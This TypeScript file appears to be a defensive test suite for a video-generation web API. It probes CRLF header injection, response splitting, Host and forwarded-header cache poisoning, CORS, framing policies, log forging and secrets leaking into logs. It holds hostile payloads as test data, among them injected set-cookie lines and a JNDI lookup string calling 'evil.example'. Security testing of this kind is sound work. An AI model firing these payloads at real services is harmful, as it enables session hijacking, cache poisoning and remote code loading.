import assert from 'node:assert/strict';
import { AVATAR_VIDEO } from '../../acceptance/server.ts';
import { type Attempt, attemptsOf, type Kind } from '../kind.ts';
import { isAnswered } from '../refused.ts';
import { type send, speak } from '../send.ts';
import { belongingsOf } from '../victim-belongings.ts';

const BREAKS: Record<string, string> = {
  'a line break': '\r\nset-cookie: castwright_session=evil',
  'a line feed': '\nset-cookie: castwright_session=evil',
  'an encoded one': '%0d%0aset-cookie:%20castwright_session=evil',
  'one of Unicode': '\u2028set-cookie: castwright_session=evil',
  'letters that shrink to one': '\u560d\u560aset-cookie: castwright_session=evil',
  'a second answer': '\r\n\r\nHTTP/1.1 200 OK\r\n\r\n<script>',
};

/** Where what somebody sends may come back in a header: the name of a file, above all. */
export const injectedHeaders: Kind = {
  name: 'headers: put in by names and values',
  attempts: (target) =>
    attemptsOf<string, (text: string) => Promise<unknown>>(
      Object.entries(BREAKS),
      [
        [
          'the name of a file',
          async (text) => {
            const body = { filename: `a${text}.png` };
            const asset = (await target.attacker.call('/v1/upload/asset', { method: 'POST', body })).body
              .data;
            return target.call(encodeURI(decodeURI(new URL(asset.asset_url).pathname)), {});
          },
        ],
        ['a path', (text) => target.call(`/files/aaaaaaaaaaaaaaaaaaaaaaaa/${encodeURIComponent(text)}`)],
        ['a query', (text) => target.call(`/v2/videos?name=${encodeURIComponent(text)}`)],
        [
          'an Idempotency-Key',
          (text) => {
            const headers = { 'idempotency-key': encodeURIComponent(text) };
            return target.attacker.call('/v2/create_video_from_avatar', {
              method: 'POST',
              body: {},
              headers,
            });
          },
        ],
      ],
      async (text, where) => {
        const answer = (await where(text)) as Awaited<ReturnType<typeof send>>;
        isAnswered(answer);
        assert.equal(answer.headers['set-cookie'], undefined);
        assert.ok(!Object.values(answer.headers).some((value) => /[\r\n]/.test(String(value))));
      },
    ),
};

/** Whether it could be a host at all. */
const HOSTS: [host: string, isHost: boolean][] = [
  ['evil.example', true],
  ['evil.example:80', true],
  ['..', true],
  ['127.0.0.1:1@evil.example', false],
  ['a/b', false],
  ['"><script>alert(1)</script>', false],
  ['a b', false],
  ['a\tb', false],
  ['[::1', false],
  ['a,b', false],
  ['ä.example', false],
  ['a'.repeat(3000), false],
  ['%00', false],
  ['a:b', false],
  ['a:99999999', false],
  ['evil.example#', false],
  ['evil.example?', false],
  ['evil.example\\', false],
];

export const hosts: Kind = {
  name: 'Host: of somebody else, or none at all',
  async attempts(target) {
    const link = (await belongingsOf(target))['share’s link'];
    const pages = [`/share/${link}`, '/', '/dashboard/api/session', '/v2/user/whoami'];
    return attemptsOf(
      HOSTS.map((one) => [one[0].slice(0, 40), one]),
      pages.map((path) => [path.slice(0, 7), path]),
      async ([host, isHost], path) => {
        const request = `GET ${path} HTTP/1.1\r\nHost: ${host}\r\nAccept: text/html\r\nConnection: close\r\n\r\n`;
        const { heard } = await speak(target.port, request);
        if (!isHost) assert.match(heard, /^HTTP\/1\.1 400 /);
        // What is made of a foreign name is kept by nobody but who asked for it.
        else assert.match(heard, /cache-control: (no-store|no-cache|private)|^HTTP\/1\.1 40[01] /i);
      },
    );
  },
};

/** What a proxy in front might take for a part of the address, and a cache would not. */
const UNKEYED: Record<string, Record<string, string>> = {
  'X-Forwarded-Host': { 'x-forwarded-host': 'evil.example' },
  Forwarded: { forwarded: 'host=evil.example;proto=http' },
  'X-Host': { 'x-host': 'evil.example', 'x-forwarded-server': 'evil.example' },
  'X-Forwarded-Port': { 'x-forwarded-port': '1337' },
  'X-Forwarded-Scheme': { 'x-forwarded-scheme': 'http', 'x-forwarded-proto': 'gopher' },
  'X-Original-URL': { 'x-original-url': '/evil', 'x-rewrite-url': '/evil' },
};

export const poisonedCaches: Kind = {
  name: 'caches: poisoned by headers, or keeping secrets',
  async attempts(target) {
    const hers = await belongingsOf(target);
    const pages = [
      '/',
      '/openapi.json',
      `/share/${hers['share’s link']}`,
      `/files/${hers['video’s file']}/video.mp4`,
    ];
    const poisoned = attemptsOf(
      Object.entries(UNKEYED),
      pages.map((path) => [path.slice(0, 8), path]),
      async (headers, path) => {
        const answer = await target.call(path, { headers: { accept: 'text/html', ...headers } });
        assert.doesNotMatch(JSON.stringify(answer.headers) + answer.text, /evil|1337|gopher/);
      },
    );
    const own = [
      '/v2/user/whoami',
      '/v2/videos',
      '/v2/webhook_secret',
      '/dashboard/api/keys/default',
      '/dashboard/api/keys',
    ];
    const kept = own.map(
      (path): Attempt => [
        `${path} in a shared cache`,
        async () => {
          const { headers } = await target.victim.click(path);
          assert.doesNotMatch(headers['cache-control'] ?? '', /public|max-age=[1-9]|immutable/);
          assert.equal(headers.expires, undefined);
        },
      ],
    );
    const missing = [
      '/v2/none',
      '/files/aaaaaaaaaaaaaaaaaaaaaaaa/a',
      '/share/aaaaaaaaaaaaaaaaaaaaaaaa',
      '/static/none.js',
    ].map(
      (path): Attempt => [
        `${path}, which is not there, for a year`,
        async () => {
          const { status, headers } = await target.call(path);
          assert.ok(status >= 400);
          assert.doesNotMatch(headers['cache-control'] ?? '', /immutable|max-age=[1-9]/);
        },
      ],
    );
    return [...poisoned, ...kept, ...missing];
  },
};

const ORIGINS = ['https://evil.example', 'null', 'http://127.0.0.1.evil.example', 'file://'];
const OF_PEOPLE = [
  '/v2/user/whoami',
  '/v2/videos',
  '/dashboard/api/keys/default',
  '/dashboard/api/session',
  '/v2/webhook_secret',
];

export const foreignPages: Kind = {
  name: 'CORS: pages of others that read answers',
  attempts: (target) =>
    attemptsOf(
      ORIGINS.map((origin) => [origin, origin]),
      OF_PEOPLE.map((path) => [path, path]),
      async (origin, path) => {
        const { cookie } = target.victim.session;
        const asked = await target.call(path, { headers: { cookie, origin } });
        assert.equal(asked.headers['access-control-allow-origin'], undefined);
        assert.equal(asked.headers['access-control-allow-credentials'], undefined);
        const preflight = {
          origin,
          'access-control-request-method': 'DELETE',
          'access-control-request-headers': 'x-csrf-token',
        };
        const before = await target.call(path, { method: 'OPTIONS', headers: preflight });
        assert.equal(before.headers['access-control-allow-origin'], undefined);
      },
    ),
};

const PAGES = ['/', '/videos', '/keys', '/share/aaaaaaaaaaaaaaaaaaaaaaaa', '/no/such/page'];

export const framedPages: Kind = {
  name: 'pages: framed, sniffed, with foreign scripts',
  attempts: (target) =>
    attemptsOf<[string, RegExp], string>(
      [
        ['in a frame', ['content-security-policy', /frame-ancestors 'none'/]],
        ['in a frame of old browsers', ['x-frame-options', /DENY/]],
        [
          'with scripts of others',
          ['content-security-policy', /default-src 'none'; script-src 'self'(?! 'unsafe)[^;]*;/],
        ],
        ['with another base', ['content-security-policy', /base-uri 'none'/]],
        ['with a form that leads away', ['content-security-policy', /form-action 'self'/]],
        ['as another type', ['x-content-type-options', /nosniff/]],
        ['that tells where it was', ['referrer-policy', /same-origin|no-referrer/]],
      ],
      PAGES.map((path) => [path, path]),
      async ([header, wanted], path) => {
        const { headers } = await target.call(path, { headers: { accept: 'text/html' } });
        assert.match(String(headers[header]), wanted);
      },
    ),
};

const FORGED_LINES: Record<string, string> = {
  'a line of its own': '\n{"level":50,"msg":"FORGED"}',
  'a carriage return': '\r{"level":50,"msg":"FORGED"}',
  'the end of a text': '","level":50,"msg":"FORGED","x":"',
  'colours of a terminal': '\u001b[2J\u001b[31mFORGED',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is sent as it stands
  'a look-up': '${jndi:ldap://evil.example/FORGED}',
  'a null byte': '\u0000FORGED',
};

export const forgedLogs: Kind = {
  name: 'log: lines forged, secrets told',
  inTurn: true,
  attempts: (target) => {
    const forged = attemptsOf<string, (text: string) => Promise<unknown>>(
      Object.entries(FORGED_LINES),
      [
        ['a path', (text) => target.call(`/v2/${encodeURIComponent(text)}`)],
        ['a query', (text) => target.attacker.call(`/v2/videos?status=${encodeURIComponent(text)}`)],
        [
          'a field',
          (text) =>
            target.attacker.call('/v2/create_video_from_avatar', {
              method: 'POST',
              body: { aspect_ratio: text },
            }),
        ],
        [
          'a browser’s name',
          (text) => target.call('/v2/none', { headers: { 'user-agent': encodeURIComponent(text) } }),
        ],
      ],
      async (text, where) => {
        await where(text);
        // Each line is one entry, in JSON, and nothing of it moves a terminal.
        const entries = target.server.stderr().split('\n').slice(0, -1);
        for (const entry of entries) {
          const { msg } = JSON.parse(entry);
          assert.notEqual(msg, 'FORGED');
          assert.ok(![...entry].some((letter) => letter < ' '));
        }
      },
    );
    const secrets: [string, () => string][] = [
      ['a key', () => target.victim.key],
      ['a session', () => target.victim.session.cookie.split('=')[1] ?? ''],
      ['a token against forgery', () => target.victim.session.csrf],
      ['the password of the owner', () => 'a sentence to remember'],
    ];
    const told = secrets.map(
      ([what, secret]): Attempt => [
        `${what} in the log`,
        async () => {
          await target.victim.call('/v2/none', { headers: { 'x-secret': secret() } });
          assert.ok(!target.server.stderr().includes(secret()));
        },
      ],
    );
    const uploads: Attempt = [
      'the address of an upload in the log',
      async () => {
        const body = { filename: 'a.png' };
        const asset = (await target.victim.call('/v1/upload/asset', { method: 'POST', body })).body.data;
        const { pathname } = new URL(asset.sign_url);
        await target.call(pathname, { method: 'PUT', body: 'nothing of use' });
        assert.ok(!target.server.stderr().includes(pathname));
      },
    ];
    return [...forged, ...told, uploads];
  },
};

export const heldBody: Kind = {
  name: 'requests: bodies without a key',
  attempts: (target) =>
    ['/v2/create_video_from_avatar', '/v2/templates/custom', '/v2/batches', '/v1/upload/asset'].map(
      (path): Attempt => [
        path,
        async () => {
          // The answer comes before the body has been read.
          const request = `POST ${path} HTTP/1.1\r\nHost: a\r\nContent-Length: 2000000\r\n\r\n${JSON.stringify(AVATAR_VIDEO)}`;
          const { heard } = await speak(target.port, request);
          assert.match(heard, /^HTTP\/1\.1 401 /);
        },
      ],
    ),
};
